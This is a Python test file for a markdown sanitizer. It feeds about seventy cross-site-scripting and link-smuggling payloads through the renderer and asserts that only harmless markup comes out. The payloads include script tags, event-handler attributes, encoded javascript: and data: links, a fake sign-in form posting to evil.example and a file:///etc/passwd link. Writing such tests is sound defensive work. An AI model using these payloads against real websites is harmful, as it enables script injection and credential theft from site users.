"""Markdown that people write, as HTML: whatever is tried in it, nothing but text and harmless markup comes out."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.web.markdown import EMPTY_CELLS_MAX, LINK_REL, LINK_SCHEMES, TAGS, safe_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action='//evil.example'><input name=password><button>Sign in</button></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<div style='position:fixed;inset:0'>you are signed out</div>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\\javascript:alert(1))",
    "[x](%6A%61vascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x](/me/keys)",
    "[x](../me)",
    "[x](#top)",
    "[x](https://bharatrouter.example@evil.example)",
    "[x](https://bharatrouter.example\\@evil.example)",
    "[x](https:/\\evil.example)",
    "[x](https://a.example 'onmouseover=alert(1)')",
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    '[x](https://a.example"onmouseover="alert(1))',
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x][y]\n\n[y]: https://a.example 'x\"><script>alert(1)</script>'",
    "<javascript:alert(1)>",
    '<https://a.example/"onclick=alert(1)>',
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](https://evil.example/x.png)',
    "![x][y]\n\n[y]: https://evil.example/pixel.png",
    "`<script>alert(1)</script>`",
    '```html"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
    "~~~<img src=x onerror=alert(1)>\nx\n~~~",
    "    <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "# <a id=__proto__ name=body>x</a>",
    "> <script>\n> alert(1)\n> </script>",
    "- <img\n  src=x\n  onerror=alert(1)>",
    "*<b onmouseover=alert(1)>x*</b>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    '<a href="https://a.example" onclick=alert(1) target=_top>x</a>',
]
ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}}


class Inspector(HTMLParser):
    """Notes whatever a browser would take for markup that may not be there."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        given = dict(attributes)
        if tag not in TAGS or not given.keys() <= ATTRIBUTES.get(tag, set()):
            self.wrong.append(f"<{tag} {given}>")
        if tag == "a" and given.get("rel") != LINK_REL:
            self.wrong.append(f"{given} without rel")
        if (href := given.get("href")) is not None:
            self.links.append(href)
            url = urlsplit(href)
            if url.scheme not in LINK_SCHEMES or "\\" in href or (url.scheme != "mailto" and "@" in url.netloc):
                self.wrong.append(href)

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"<!{decl}")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(f"<![{data}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"<?{data}")


def inspected(markdown: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(safe_html(markdown))
    inspector.close()
    return inspector


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("around", ["{}", "Look: {} here", "> - {}", "**{}**", "# {}", "[{}](https://a.example)"])
def test_nothing_but_harmless_markup_comes_out(payload: str, around: str) -> None:
    assert inspected(around.format(payload)).wrong == []


@given(
    parts=st.lists(
        st.sampled_from([*PAYLOADS, "\n\n", "`", "[", "](", ")", "<", ">", "|", "\n|-|\n", "'", '"']), max_size=8
    )
)
def test_nor_out_of_their_mixtures(parts: list[str]) -> None:
    assert inspected("".join(parts)).wrong == []


def test_html_is_shown_as_the_text_that_it_is() -> None:
    assert safe_html("<b>x</b>") == "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"


def test_links_to_sites_and_mail_stay() -> None:
    given = "[a](https://a.example/x?y=1#z) <http://b.example> [c](mailto:c@c.example 'Write') [d](HTTPS://D.example)"
    assert inspected(given).links == [
        "https://a.example/x?y=1#z",
        "http://b.example",
        "mailto:c@c.example",
        "HTTPS://D.example",
    ]
    assert 'title="Write"' in safe_html(given)


def test_ordinary_markdown_is_what_it_should_be() -> None:
    html = safe_html(
        "# A\n\n1. *b*\n2. **c**\n\n~~d~~ `e`\n\n| f | g |\n|---|---|\n| h | i |\n\n> j\n\n---\n\n```\nk < l\n```"
    )
    for part in (
        "<h1>A</h1>",
        "<em>b</em>",
        "<strong>c</strong>",
        "<s>d</s>",
        "<code>e</code>",
        "<th>f</th>",
        "<td>h</td>",
        "<blockquote>",
        "<hr>",
        "k &lt; l",
    ):
        assert part in html


@pytest.mark.parametrize(
    "piece",
    ["[", "![", "[a](", "*a ", "> ", "- ", "<", "&", "\\*", "|", "`", "_a__", "~~a ", "* a\n", "> a\n", "<http://a"],
)
def test_no_readme_becomes_much_more_than_it_is(piece: str) -> None:
    markdown = piece * (20_000 // len(piece))
    assert len(safe_html(markdown)) < 8 * len(markdown)


def test_a_wide_table_is_not_filled_up_without_end() -> None:
    wide = "|" + "a|" * 100 + "\n|" + "-|" * 100 + "\n"
    assert safe_html(wide + "|\n" * 9_000).count("<td>") < EMPTY_CELLS_MAX + 10_000
